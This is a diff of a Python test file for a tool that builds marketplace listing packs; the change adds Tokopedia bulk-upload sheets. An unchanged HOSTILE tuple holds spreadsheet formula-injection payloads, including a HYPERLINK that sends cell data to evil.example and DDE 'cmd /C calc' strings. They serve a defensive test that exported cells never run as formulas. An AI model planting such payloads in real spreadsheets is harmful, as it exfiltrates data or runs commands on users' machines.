@@ -37,7 +37,7 @@ from webapp.listings.pack import (
 from webapp.listings.rules import check_listing
 
 DAY = date(2026, 11, 28)
-CHANNEL_IDS = ("shopee", "tiktok_shop", "instagram", "whatsapp", "etsy")
+CHANNEL_IDS = ("shopee", "tiktok_shop", "tokopedia", "instagram", "whatsapp", "etsy")
 HOSTILE = ('=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-1+2", "\t=1+1", "＝1+1")
 SHOPEE_HEADERS = [
@@ -57,12 +57,13 @@ TIKTOK_HEADERS = [
     "Seller SKU",
 ]
 ENTRY_PATTERNS = [re.compile(pattern) for pattern in (
-    r"(shopee|tiktok_shop|instagram|whatsapp|etsy)/[a-z0-9-]+/\d\d(-utama)?\.(jpg|png)",
-    r"(shopee|tiktok_shop|instagram|whatsapp|etsy)/[a-z0-9-]+/"
+    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|etsy)/[a-z0-9-]+/\d\d(-utama)?\.(jpg|png)",
+    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|etsy)/[a-z0-9-]+/"
     r"(judul|deskripsi|tagar|poin|caption|katalog)\.txt",
-    r"(shopee|tiktok_shop|instagram|whatsapp|etsy)/PERIKSA\.txt",
-    r"(shopee|tiktok_shop|instagram|whatsapp|etsy)/\1\.csv",
+    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|etsy)/PERIKSA\.txt",
+    r"(shopee|tiktok_shop|tokopedia|instagram|whatsapp|etsy)/\1\.csv",
     r"shopee/shopee-unggah-massal\.xlsx", r"tiktok_shop/tiktok-shop-batch\.xlsx",
+    r"tokopedia/tokopedia-tambah-massal\.xlsx",
     r"cerita/(id|en)/[a-z_]+\.txt", r"cerita/logo\.png", r"index\.html", r"manifest\.json",
 )]
 
@@ -207,8 +208,9 @@ def test_entry_names_are_generated_and_safe(built):
         assert f"{channel_id}/{channel_id}.csv" in names
     assert "shopee/shopee-unggah-massal.xlsx" in names
     assert "tiktok_shop/tiktok-shop-batch.xlsx" in names
+    assert "tokopedia/tokopedia-tambah-massal.xlsx" in names
     assert not any(n.endswith(".xlsx") for n in names
-                   if not n.startswith(("shopee/", "tiktok_shop/")))
+                   if not n.startswith(("shopee/", "tiktok_shop/", "tokopedia/")))
     assert {"cerita/logo.png", "cerita/id/tagline.txt", "cerita/id/about_long.txt",
             "cerita/id/instagram_bio.txt", "cerita/en/tagline.txt"} <= set(names)
 
@@ -360,6 +362,38 @@ def test_shopee_sheet_has_the_template_columns_and_one_row_per_variant(built):
     assert size_l["Nama Produk*"] == size_m["Nama Produk*"]
 
 
+TOKOPEDIA_HEADERS = [
+    "Pesan Error", "Nama Produk*", "Deskripsi Produk", "Kategori Kode*", "Berat* (Gram)",
+    "Minimum Pemesanan*", "Nomor Etalase", "Waktu Proses Preorder", "Kondisi*",
+    "Foto Produk 1*", *(f"Foto Produk {n}" for n in range(2, 6)),
+    *(f"URL Video Produk {n}" for n in range(1, 4)), "SKU Name", "Status*", "Jumlah Stok*",
+    "Harga (Rp)*", "Kurir Pengiriman*", "Asuransi Pengiriman*",
+]
+
+
+def test_tokopedia_sheet_has_the_bulk_add_columns_and_one_row_per_product(built):
+    """channels.md §3: the Tambah Produk Massal headers; the basic template has no variant
+    columns, so a product with variants is one row."""
+    data, _, pack = built
+    rows = list(sheet(data, "tokopedia/tokopedia-tambah-massal.xlsx").iter_rows(
+        values_only=True))
+    assert list(rows[0]) == TOKOPEDIA_HEADERS
+    data_rows = [dict(zip(TOKOPEDIA_HEADERS, row, strict=True)) for row in rows[2:]]
+    assert len(data_rows) == len(pack.products)
+    kain = data_rows[0]
+    lasem = pack.products[0]
+    assert kain["Nama Produk*"] == lasem.copy["tokopedia"].title
+    assert kain["Deskripsi Produk"] == lasem.copy["tokopedia"].description
+    assert (kain["Berat* (Gram)"], kain["Minimum Pemesanan*"], kain["Kondisi*"]) == (350, 1, "Baru")
+    assert (kain["Harga (Rp)*"], kain["Jumlah Stok*"], kain["SKU Name"]) == (
+        1_250_000, 3, "BSL-LTH-001")
+    assert kain["Foto Produk 1*"] == "kain-latohan-merah/01-utama.jpg"
+    assert kain["Foto Produk 2"] == "kain-latohan-merah/02.jpg"
+    assert kain["Kategori Kode*"] is None and kain["Status*"] == "Aktif"
+    checklist = open_zip(data).read("tokopedia/PERIKSA.txt").decode()
+    assert "TAMBAH PRODUK MASSAL: tokopedia-tambah-massal.xlsx" in checklist
+
+
 def test_tiktok_sheet_has_the_batch_template_columns(built):
     data, _, pack = built
     rows = list(sheet(data, "tiktok_shop/tiktok-shop-batch.xlsx").iter_rows(values_only=True))
@@ -380,6 +414,7 @@ def test_tiktok_sheet_has_the_batch_template_columns(built):
 
 @pytest.mark.parametrize(("path", "kind"), [
     ("shopee/shopee.csv", "xlsx"), ("tiktok_shop/tiktok_shop.csv", "xlsx"),
+    ("tokopedia/tokopedia.csv", "xlsx"),
     ("instagram/instagram.csv", "generic"), ("etsy/etsy.csv", "generic"),
     ("whatsapp/whatsapp.csv", "generic")])
 def test_csv_is_utf8_with_bom_quoted_and_holds_the_sheet_data(built, path, kind):
@@ -393,7 +428,8 @@ def test_csv_is_utf8_with_bom_quoted_and_holds_the_sheet_data(built, path, kind)
     assert all(len(row) == len(rows[0]) for row in rows)
     if kind == "xlsx":
         xlsx = {"shopee/shopee.csv": "shopee/shopee-unggah-massal.xlsx",
-                "tiktok_shop/tiktok_shop.csv": "tiktok_shop/tiktok-shop-batch.xlsx"}[path]
+                "tiktok_shop/tiktok_shop.csv": "tiktok_shop/tiktok-shop-batch.xlsx",
+                "tokopedia/tokopedia.csv": "tokopedia/tokopedia-tambah-massal.xlsx"}[path]
         cells = [["" if v is None else v for v in row]
                  for row in sheet(data, xlsx).iter_rows(values_only=True)]
         assert rows[0] == cells[0]
@@ -440,6 +476,7 @@ def test_no_cell_can_run_as_a_formula(name):
         assert not re.search(rb"<f[ >]", inner.read("xl/worksheets/sheet1.xml"))
     for path, column in (("shopee/shopee.csv", "Nama Produk*"),
                          ("tiktok_shop/tiktok_shop.csv", "Product Name"),
+                         ("tokopedia/tokopedia.csv", "Nama Produk*"),
                          ("etsy/etsy.csv", "Nama produk"), ("etsy/etsy.csv", "Judul"),
                          ("instagram/instagram.csv", "Caption"),
                          ("whatsapp/whatsapp.csv", "Teks katalog WhatsApp")):
@@ -516,7 +553,8 @@ def test_same_input_gives_byte_identical_zip(tmp_path):
 
 def test_sheets_carry_the_revision_date_not_the_build_time(built):
     data, _, _ = built
-    for path in ("shopee/shopee-unggah-massal.xlsx", "tiktok_shop/tiktok-shop-batch.xlsx"):
+    for path in ("shopee/shopee-unggah-massal.xlsx", "tiktok_shop/tiktok-shop-batch.xlsx",
+                 "tokopedia/tokopedia-tambah-massal.xlsx"):
         inner = zipfile.ZipFile(io.BytesIO(open_zip(data).read(path)))
         assert {info.date_time for info in inner.infolist()} == {(2026, 11, 28, 0, 0, 0)}
         core = inner.read("docProps/core.xml").decode()
